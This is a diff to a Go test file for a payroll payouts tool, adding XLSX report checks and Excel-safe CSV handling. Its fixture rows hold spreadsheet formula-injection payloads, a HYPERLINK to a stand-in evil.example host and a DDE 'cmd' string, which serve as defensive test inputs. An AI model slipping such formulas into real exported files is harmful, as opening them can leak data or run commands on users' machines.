@@ -10,12 +10,15 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strconv"
 	"strings"
 	"sync/atomic"
 	"testing"
 	"time"
 	"unicode/utf8"
+
+	"github.com/xuri/excelize/v2"
 
 	"github.com/payouts/payouts/batch"
 	"github.com/payouts/payouts/batch/manifest"
@@ -116,10 +119,10 @@ func everyOutcome(t *testing.T) (*harness, *ledgerClock, string) {
 
 	clock.set(time.Date(2025, 11, 29, 3, 0, 0, 0, time.UTC))
 	main := h.manifest("payroll.csv",
-		row{ref: "PAY-01", amount: "1500.50", card: sandbox.CardMir, name: "Иванов Иван Иванович"},
-		row{ref: "PAY-02", amount: "2 000,00", card: sandbox.CardVisa, name: `=HYPERLINK("http://evil.example/?leak=1","Click me")`},
-		row{ref: "PAY-03", amount: "300", card: sandbox.CardMastercard, name: "+7 Пётр Сидоров"},
-		row{ref: "PAY-04", amount: "99.99", currency: "EUR", card: sandbox.CardVisa, name: "-1 Anna Müller"},
+		row{ref: "PAY-01", amount: "1500.50", card: sandbox.CardMir, name: "Иванов Иван Иванович", email: "ivanov@example.com", description: "Зарплата за ноябрь"},
+		row{ref: "PAY-02", amount: "2 000,00", card: sandbox.CardVisa, name: `=HYPERLINK("http://evil.example/?leak=1","Click me")`, description: "=cmd|' /C calc'!A0"},
+		row{ref: "00303", amount: "300", card: sandbox.CardMastercard, name: "+7 Пётр Сидоров"},
+		row{ref: "PAY-04", amount: "99.99", currency: "EUR", card: sandbox.CardVisa, name: "-1 Anna Müller", description: "00777"},
 		row{ref: "PAY-05", amount: "45", currency: "USD", card: sandbox.CardMir, name: "@SUM(A1:A9) Bob"},
 		row{ref: "PAY-06", amount: "1500", currency: "JPY", card: sandbox.CardVisa, name: "\tTab Leading"},
 		row{ref: "=2+5", amount: "10", card: sandbox.CardMastercard, name: "Ольга Павлова; \"кавычки\""},
@@ -147,10 +150,10 @@ func everyOutcome(t *testing.T) (*harness, *ledgerClock, string) {
 	// 3. ...and pays most of it again with a rerun of a subset.
 	clock.set(time.Date(2025, 11, 29, 10, 0, 0, 0, time.UTC))
 	subset := h.manifest("payroll-rerun.csv",
-		row{ref: "PAY-01", amount: "1500.50", card: sandbox.CardMir, name: "Иванов Иван Иванович"},
-		row{ref: "PAY-02", amount: "2 000,00", card: sandbox.CardVisa, name: `=HYPERLINK("http://evil.example/?leak=1","Click me")`},
-		row{ref: "PAY-03", amount: "300", card: sandbox.CardMastercard, name: "+7 Пётр Сидоров"},
-		row{ref: "PAY-04", amount: "99.99", currency: "EUR", card: sandbox.CardVisa, name: "-1 Anna Müller"},
+		row{ref: "PAY-01", amount: "1500.50", card: sandbox.CardMir, name: "Иванов Иван Иванович", email: "ivanov@example.com", description: "Зарплата за ноябрь"},
+		row{ref: "PAY-02", amount: "2 000,00", card: sandbox.CardVisa, name: `=HYPERLINK("http://evil.example/?leak=1","Click me")`, description: "=cmd|' /C calc'!A0"},
+		row{ref: "00303", amount: "300", card: sandbox.CardMastercard, name: "+7 Пётр Сидоров"},
+		row{ref: "PAY-04", amount: "99.99", currency: "EUR", card: sandbox.CardVisa, name: "-1 Anna Müller", description: "00777"},
 		row{ref: "PAY-05", amount: "45", currency: "USD", card: sandbox.CardMir, name: "@SUM(A1:A9) Bob"},
 		row{ref: "PAY-06", amount: "1500", currency: "JPY", card: sandbox.CardVisa, name: "\tTab Leading"},
 		row{ref: "PAY-NOCARD", amount: "100", card: sandbox.CardNotExist, name: "Новикова Татьяна"},
@@ -191,7 +194,7 @@ func everyOutcome(t *testing.T) (*harness, *ledgerClock, string) {
 	h.postWebhook([]byte(`{"type":"payment_finished","session":{"id":"ps_foreign_77","status":"accepted","payments":[{"id":"po_foreign_77","status":"succeeded","amount_details":{"amount":5000,"currency":"rub"}}]}}`))
 
 	h.expectStates(id, map[string]ledger.State{
-		"PAY-01": ledger.StateSucceeded, "PAY-02": ledger.StateSucceeded, "PAY-03": ledger.StateSucceeded,
+		"PAY-01": ledger.StateSucceeded, "PAY-02": ledger.StateSucceeded, "00303": ledger.StateSucceeded,
 		"PAY-04": ledger.StateSucceeded, "PAY-05": ledger.StateSucceeded, "PAY-06": ledger.StateSucceeded,
 		"=2+5": ledger.StateCancelled, "PAY-NOCARD": ledger.StateFailed, "PAY-EXPIRED": ledger.StateFailed,
 		"PAY-MISMATCH": ledger.StateMismatch, "PAY-ERR": ledger.StateReview, "PAY-PRIOR": ledger.StateSkipped,
@@ -256,6 +259,9 @@ func TestReportGolden(t *testing.T) {
 		checkCSVReport(t, h, id, bytes.TrimPrefix(excelOut, []byte("\ufeff")), ';', ",")
 	})
 	t.Run("json", func(t *testing.T) { checkJSONReport(t, h, id, jsonOut) })
+	t.Run("xlsx", func(t *testing.T) {
+		checkXLSXReport(t, h, id, writeReport(t, h, id, report.Options{Format: report.XLSX}))
+	})
 
 	// Late news: Pike's payment_finished for PAY-UNKNOWN finally arrives
 	// after the run exited, and `payouts serve` applies it once Pike's own
@@ -280,7 +286,7 @@ func TestReportGolden(t *testing.T) {
 			t.Errorf("after the late webhook got finding %+v, want none for PAY-UNKNOWN", f)
 		}
 	}
-	h.expectPaid("PAY-PRIOR", "PAY-01", "PAY-02", "PAY-03", "PAY-04", "PAY-05", "PAY-06", "PAY-UNKNOWN", "PAY-AMOUNT")
+	h.expectPaid("PAY-PRIOR", "PAY-01", "PAY-02", "00303", "PAY-04", "PAY-05", "PAY-06", "PAY-UNKNOWN", "PAY-AMOUNT")
 }
 
 // serve runs batch.Serve until the row ref of the batch reaches state want.
@@ -308,6 +314,10 @@ func dangerous(cell string) bool {
 	return strings.ContainsRune("=+-@\t\r＝＋－＠", r) && cell != ""
 }
 
+// excelConstant matches a cell of the Excel CSV that is one string
+// constant, ="…" with quotes doubled; group 1 is the text shown.
+var excelConstant = regexp.MustCompile(`^="((?:[^"]|"")*)"$`)
+
 // checkCSVReport checks a CSV report against the ledger: one line per
 // ledger row with its values, no cell a spreadsheet would run, and the
 // summary sections equal to what the ledger says.
@@ -323,14 +333,26 @@ func checkCSVReport(t *testing.T, h *harness, id string, out []byte, comma rune,
 	if got, want := strings.Join(records[0], ","), strings.Join(report.Columns, ","); got != want {
 		t.Fatalf("got header %s, want %s", got, want)
 	}
+	excel := comma == ';'
 	for _, rec := range records {
 		for _, cell := range rec {
+			// The Excel CSV writes identities as one string constant,
+			// ="PAY-01", which a spreadsheet shows as text and never runs.
+			if excel && excelConstant.MatchString(cell) {
+				continue
+			}
 			if dangerous(cell) {
 				t.Errorf("cell %q would run as a formula", cell)
 			}
 		}
 	}
-	unsafe := func(s string) string { return strings.TrimPrefix(s, "'") }
+	// unsafe is the text a spreadsheet shows for a cell.
+	unsafe := func(s string) string {
+		if m := excelConstant.FindStringSubmatch(s); excel && m != nil {
+			return strings.ReplaceAll(m[1], `""`, `"`)
+		}
+		return strings.TrimPrefix(s, "'")
+	}
 	i := 1
 	summary := map[string]string{}
 	for row, err := range h.db.Rows(context.Background(), id) {
@@ -339,8 +361,9 @@ func checkCSVReport(t *testing.T, h *harness, id string, out []byte, comma rune,
 		}
 		rec := records[i]
 		i++
-		want := []string{row.Reference, string(row.State), strings.Replace(manifest.FormatAmount(row.Amount, row.Currency), ".", point, 1), row.Currency, row.SessionID}
-		got := []string{unsafe(rec[1]), rec[2], rec[3], rec[4], rec[7]}
+		want := []string{row.Reference, string(row.State), strings.Replace(manifest.FormatAmount(row.Amount, row.Currency), ".", point, 1), row.Currency,
+			row.SessionID, row.Description, row.Email}
+		got := []string{unsafe(rec[1]), rec[2], rec[3], rec[4], unsafe(rec[7]), unsafe(rec[14]), unsafe(rec[15])}
 		if strings.Join(got, "|") != strings.Join(want, "|") {
 			t.Errorf("line of row %d: got %q, want %q", row.Line, got, want)
 		}
@@ -368,6 +391,59 @@ func checkCSVReport(t *testing.T, h *harness, id string, out []byte, comma rune,
 		if got := summary[l.Currency+" "+string(l.State)]; got != want {
 			t.Errorf("summary %s %s: got %q, want %q (ledger)", l.Currency, l.State, got, want)
 		}
+	}
+}
+
+// checkXLSXReport reads an XLSX report back and checks its Rows sheet
+// against the ledger: references as text, exactly as written; amounts as
+// numbers equal to the ledger's; no card number in any cell of any sheet.
+func checkXLSXReport(t *testing.T, h *harness, id string, out []byte) {
+	t.Helper()
+	f, err := excelize.OpenReader(bytes.NewReader(out))
+	if err != nil {
+		t.Fatalf("the report is not a workbook: %v", err)
+	}
+	defer f.Close()
+	var text bytes.Buffer
+	for _, sheet := range f.GetSheetList() {
+		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range rows {
+			text.WriteString(strings.Join(r, "\t") + "\n")
+		}
+	}
+	h.scanForPANs(text.Bytes())
+	rows, err := f.GetRows(report.SheetRows, excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	i := 1
+	for row, err := range h.db.Rows(context.Background(), id) {
+		if err != nil {
+			t.Fatal(err)
+		}
+		if i >= len(rows) {
+			t.Fatalf("got %d rows on the Rows sheet, want more", len(rows)-1)
+		}
+		rec := rows[i]
+		i++
+		ref, _ := excelize.CoordinatesToCellName(2, i)
+		if typ, _ := f.GetCellType(report.SheetRows, ref); typ != excelize.CellTypeInlineString || rec[1] != row.Reference {
+			t.Errorf("row %d reference: got %q (type %v), want the text %q", row.Line, rec[1], typ, row.Reference)
+		}
+		amount, err := strconv.ParseFloat(rec[3], 64)
+		want, _ := strconv.ParseFloat(manifest.FormatAmount(row.Amount, row.Currency), 64)
+		if err != nil || amount != want {
+			t.Errorf("row %d amount: got %q, want the number %v", row.Line, rec[3], want)
+		}
+		if rec[2] != string(row.State) || rec[6] != row.RecipientName {
+			t.Errorf("row %d: got status %q name %q, want %q %q", row.Line, rec[2], rec[6], row.State, row.RecipientName)
+		}
+	}
+	if i != len(rows) {
+		t.Errorf("got %d rows on the Rows sheet, want %d", len(rows)-1, i-1)
 	}
 }
 
@@ -419,7 +495,8 @@ func checkJSONReport(t *testing.T, h *harness, id string, out []byte) {
 		i++
 		// JSON is for machines: no spreadsheet apostrophes.
 		if got.Reference != row.Reference || got.RecipientName != row.RecipientName || got.Status != string(row.State) ||
-			got.Amount != manifest.FormatAmount(row.Amount, row.Currency) || got.Attempts != row.Attempt || got.PayoutID != row.PayoutID {
+			got.Amount != manifest.FormatAmount(row.Amount, row.Currency) || got.Attempts != row.Attempt || got.PayoutID != row.PayoutID ||
+			got.Description != row.Description || got.Email != row.Email {
 			t.Errorf("row %d: got %+v, want the ledger's %+v", row.Line, got, row)
 		}
 		if row.State == ledger.StateSucceeded {
